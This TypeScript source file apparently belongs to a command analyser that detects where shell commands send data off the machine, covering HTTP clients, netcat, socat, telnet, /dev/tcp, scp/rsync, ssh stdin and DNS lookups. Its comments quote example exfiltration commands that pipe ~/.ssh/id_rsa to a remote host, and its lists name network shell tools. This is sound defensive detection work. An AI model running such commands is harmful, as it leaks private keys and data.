/**
 * Where data can leave the machine from one command: HTTP clients (their bodies, uploads
 * and stdin), raw sockets (nc and its clones: netcats.ts; socat, telnet, `> /dev/tcp/host/port`; TLS clients in
 * exfil-tls.ts) and copies to
 * remote hosts (scp, rsync, sftp, and what a command run through ssh reads from this
 * machine's stdin), name lookups (the queried name reaches whoever runs that domain's DNS),
 * gist uploads, text and assets posted to a forge's issues, pull requests and releases
 * (exfil-forge.ts), mail and packet payloads (exfil-messages.ts), push notifications
 * (exfil-notify.ts), and file senders, transfer
 * clients, message brokers (exfil-transfers.ts), bucket copies (exfil-buckets.ts), uploads to
 * content networks and pinning services (exfil-pinning.ts), cloud drives (exfil-drives.ts), a CI
 * job's build page and artifacts (exfil-ci.ts), and
 * any other client's own words sent to the host they name (exfil-argv.ts).
 */
import { tlsClientHost } from './exfil-tls.js';
import type { AnalyzeContext, NormalizedCommand } from '../engine/types.js';
import { httpRequests } from './http.js';
import { isLocalHost, parseUrl } from './http-url.js';
import { forgePosts } from './exfil-forge.js';
import { messagesOf } from './exfil-messages.js';
import { notificationsOf } from './exfil-notify.js';
import { cloudMessagesOf } from './exfil-cloud-messages.js';
import { logShipmentsOf } from './exfil-log-shippers.js';
import { chatUploadsOf } from './exfil-chat.js';
import { transfersOf } from './exfil-transfers.js';
import { syncUploads } from './exfil-sync.js';
import { bucketCopy } from './exfil-buckets.js';
import { pinnedUploads } from './exfil-pinning.js';
import { driveUploads } from './exfil-drives.js';
import { argvSend } from './exfil-argv.js';
import { ciPublished } from './exfil-ci.js';
import { netcatHost } from './netcats.js';

export interface Sink {
  /** http | nc | tls | socat | telnet | dev-tcp | scp | rsync | sftp | ssh | dns | gist | mail | ping | hping, a forge's command (`gh issue comment`) or a transfer's (`croc send`, `lftp put`) */
  sink: string;
  /** Destination host; empty = unknown. */
  host: string;
  /** True when the destination is this machine. */
  local: boolean;
  /** True when the command's stdin is sent. */
  sendsStdin: boolean;
  /** Local files sent (as written). Empty = none. */
  files: string[];
  /**
   * True when `files` are already host paths (an HTTP request's uploads in a new container, read through its
   * mounts: http-body.ts resolvePath); false or absent = as written, resolved by the reader.
   */
  hostFiles?: boolean;
  /** argv indices whose text is sent (request bodies). Empty = none. */
  dataArgs: number[];
  /** The request URL (or DNS name) as written (unexpanded `$VARS` kept). Empty = neither. */
  url: string;
  /** Request headers, lower-case name → value as written. Empty = none. */
  headers: Record<string, string>;
}

const NC_WITH_ARG = new Set([
  '-w',
  '-p',
  '-s',
  '-i',
  '-q',
  '-x',
  '-X',
  '-e',
  '-c',
  '-I',
  '-O',
  '-T',
  '-V',
  '-W',
  '-P',
]);
const SSH_COPY_WITH_ARG = new Set([
  '-P',
  '-p',
  '-i',
  '-F',
  '-o',
  '-c',
  '-l',
  '-S',
  '-J',
  '-e',
  '--rsh',
  '--rsync-path',
  '--exclude',
  '--include',
  '--filter',
  '--port',
]);

function hostSink(sink: string, host: string, extra: Partial<Sink> = {}): Sink {
  return {
    sink,
    host,
    local: host !== '' && isLocalHost(host),
    sendsStdin: false,
    files: [],
    dataArgs: [],
    url: '',
    headers: {},
    ...extra,
  };
}

/** Programs that resolve the names they are given. */
const DNS_TOOLS = new Set([
  'dig',
  'nslookup',
  'host',
  'drill',
  'kdig',
  'delv',
  'ping',
  'ping6',
  'traceroute',
  'getent',
  'resolvectl',
]);

/** Domain of a looked-up name (its last two labels); empty when not a name. */
function domainOf(name: string): string {
  const labels = name.replace(/\.$/, '').split('.');
  return labels.length >= 2 ? labels.slice(-2).join('.').toLowerCase() : '';
}

function dnsSinks(cmd: NormalizedCommand): Sink[] {
  const out: Sink[] = [];
  for (let i = 1; i < cmd.argv.length; i++) {
    const a = cmd.argv[i];
    if (a.startsWith('-') || a.startsWith('@') || a.startsWith('+') || !a.includes('.')) continue;
    if (/^\d+(\.\d+){3}$/.test(a)) continue;
    out.push(hostSink('dns', domainOf(a), { url: a, dataArgs: [i] }));
  }
  return out;
}

/** `gh gist create|edit FILE…` (or stdin with `-` / no file). */
function gistSinks(cmd: NormalizedCommand): Sink[] {
  const w = cmd.argv.slice(1);
  const at = w.indexOf('gist');
  if (at < 0 || !['create', 'new', 'edit'].includes(w[at + 1] ?? '')) return [];
  const files: string[] = [];
  const rest = w.slice(at + 2);
  for (let i = 0; i < rest.length; i++) {
    const a = rest[i];
    if (['-d', '--desc', '-f', '--filename'].includes(a)) i++;
    else if (a === '-a' || a === '--add') files.push(rest[++i] ?? '');
    else if (!a.startsWith('-') || a === '-') files.push(a);
  }
  const fromStdin = files.length === 0 || files.includes('-');
  return [
    hostSink('gist', 'gist.github.com', { files: files.filter((f) => f !== '-'), sendsStdin: fromStdin }),
  ];
}

/**
 * ssh sends this machine's stdin to the remote command: `ssh host 'cat > k' < ~/.ssh/id_rsa`
 * (the normalizer runs the remote command under an `ssh HOST` wrapper, its stdin still the
 * local redirect or pipe) and `ssh host < file` (the remote shell reads it). Input that the
 * remote script gives itself (`ssh h 'env | cat'`) stays there.
 */
function sshSinks(cmd: NormalizedCommand): Sink[] {
  const label = [...cmd.wrappers].reverse().find((w) => w.startsWith('ssh '));
  if (label && cmd.remote) {
    const from = cmd.stdin?.kind === 'pipe' ? cmd.stdin.from : undefined;
    const local = cmd.stdin?.kind === 'file' || (from !== undefined && !from.remote);
    return local ? [hostSink('ssh', sshHost(label.slice(4)), { sendsStdin: true })] : [];
  }
  if (cmd.program !== 'ssh' || cmd.remote || cmd.argv.includes('-n')) return [];
  const pos: string[] = [];
  for (let i = 1; i < cmd.argv.length; i++) {
    const a = cmd.argv[i];
    if (a.startsWith('-')) {
      if (/^-[bcDEeFIiJLlmOopQRSWw]$/.test(a)) i++;
    } else pos.push(a);
  }
  return pos.length === 1 ? [hostSink('ssh', sshHost(pos[0]), { sendsStdin: true })] : [];
}

/** `user@host`, `ssh://user@host:22` → host. */
function sshHost(dest: string): string {
  return dest
    .replace(/^ssh:\/\//, '')
    .replace(/^[^@]*@/, '')
    .replace(/:\d*$/, '')
    .toLowerCase();
}

export function sinksOf(cmd: NormalizedCommand, ctx: AnalyzeContext): Sink[] {
  const out: Sink[] = [];
  const posts = forgePosts(cmd);
  // a forge comment is also read as its API request (http-forge-comment.ts); its forge post
  // below is the one sink of it
  for (const req of posts.length ? [] : httpRequests(cmd, ctx)) {
    for (const raw of req.urls.length ? req.urls : ['']) {
      const u = raw ? parseUrl(raw, req.defaultScheme) : undefined;
      out.push(
        hostSink('http', u?.host ?? '', {
          sendsStdin: req.sendsStdin,
          files: req.uploads,
          hostFiles: cmd.container !== undefined,
          dataArgs: req.dataArgs,
          url: raw,
          headers: req.headers,
        }),
      );
    }
  }
  const p = cmd.program;
  if (DNS_TOOLS.has(p)) out.push(...dnsSinks(cmd));
  if (p === 'gh') out.push(...gistSinks(cmd));
  out.push(...sshSinks(cmd));
  for (const post of posts) out.push(hostSink('forge', post.host, post));
  for (const m of [
    ...messagesOf(cmd),
    ...notificationsOf(cmd),
    ...chatUploadsOf(cmd),
    ...cloudMessagesOf(cmd),
    ...logShipmentsOf(cmd, ctx),
  ])
    out.push(hostSink(m.sink, m.host, m));
  const uploads = [...transfersOf(cmd, ctx), ...syncUploads(cmd), ...bucketCopy(cmd)];
  for (const t of [...uploads, ...pinnedUploads(cmd), ...driveUploads(cmd)])
    out.push(hostSink(t.sink, t.host, t));
  for (const c of ciPublished(cmd)) out.push(hostSink(c.sink, c.host, c));
  if (p === 'telnet') {
    const pos: string[] = [];
    for (let i = 1; i < cmd.argv.length; i++) {
      const a = cmd.argv[i];
      if (a.startsWith('-')) {
        if (NC_WITH_ARG.has(a)) i++;
      } else pos.push(a);
    }
    const listen = cmd.argv.some((a) => /^-[a-zA-Z]*l/.test(a));
    if (!listen) out.push(hostSink('telnet', pos[0] ?? '', { sendsStdin: true }));
  }
  // netcat and its clones (netcats.ts): stdin to HOST PORT
  const ncHost = netcatHost(p, cmd.argv);
  if (ncHost !== undefined) out.push(hostSink('nc', ncHost, { sendsStdin: true }));
  const tls = tlsClientHost(cmd);
  if (tls !== undefined) out.push(hostSink('tls', tls, { sendsStdin: true }));
  if (p === 'socat') {
    const addr = cmd.argv.slice(1).find((a) => /^(tcp|tcp4|tcp6|udp|openssl|ssl)[^:]*:/i.test(a));
    // the other address may be a file it reads (`FILE:~/.ssh/id_rsa`, `OPEN:`, `GOPEN:`)
    const files = cmd.argv
      .slice(1)
      .map((a) => /^(?:file|open|gopen):([^,]+)/i.exec(a)?.[1])
      .filter((f) => f !== undefined);
    if (addr) out.push(hostSink('socat', addr.split(':')[1] ?? '', { sendsStdin: true, files }));
  }
  for (const w of cmd.writes) {
    const m = /^\/dev\/(tcp|udp)\/([^/]+)\//.exec(w);
    if (m) out.push(hostSink('dev-tcp', m[2], { sendsStdin: true }));
  }
  if (p === 'scp' || p === 'rsync' || p === 'sftp') {
    const pos: string[] = [];
    for (let i = 1; i < cmd.argv.length; i++) {
      const a = cmd.argv[i];
      if (a.startsWith('-')) {
        if (SSH_COPY_WITH_ARG.has(a)) i++;
      } else pos.push(a);
    }
    const dest = pos[pos.length - 1] ?? '';
    const remote =
      /^(?:[^/@:]+@)?([^/:]+):/.exec(dest) ?? /^(?:scp|sftp|rsync):\/\/(?:[^@/]+@)?([^/:]+)/.exec(dest);
    if (remote && pos.length > 1) out.push(hostSink(p, remote[1], { files: pos.slice(0, -1) }));
  }
  // Any other client that sends its words to the host they name (exfil-argv.ts).
  const sent = out.length ? undefined : argvSend(cmd, ctx);
  if (sent) out.push(hostSink(sent.sink, sent.host, { dataArgs: sent.dataArgs }));
  return out;
}
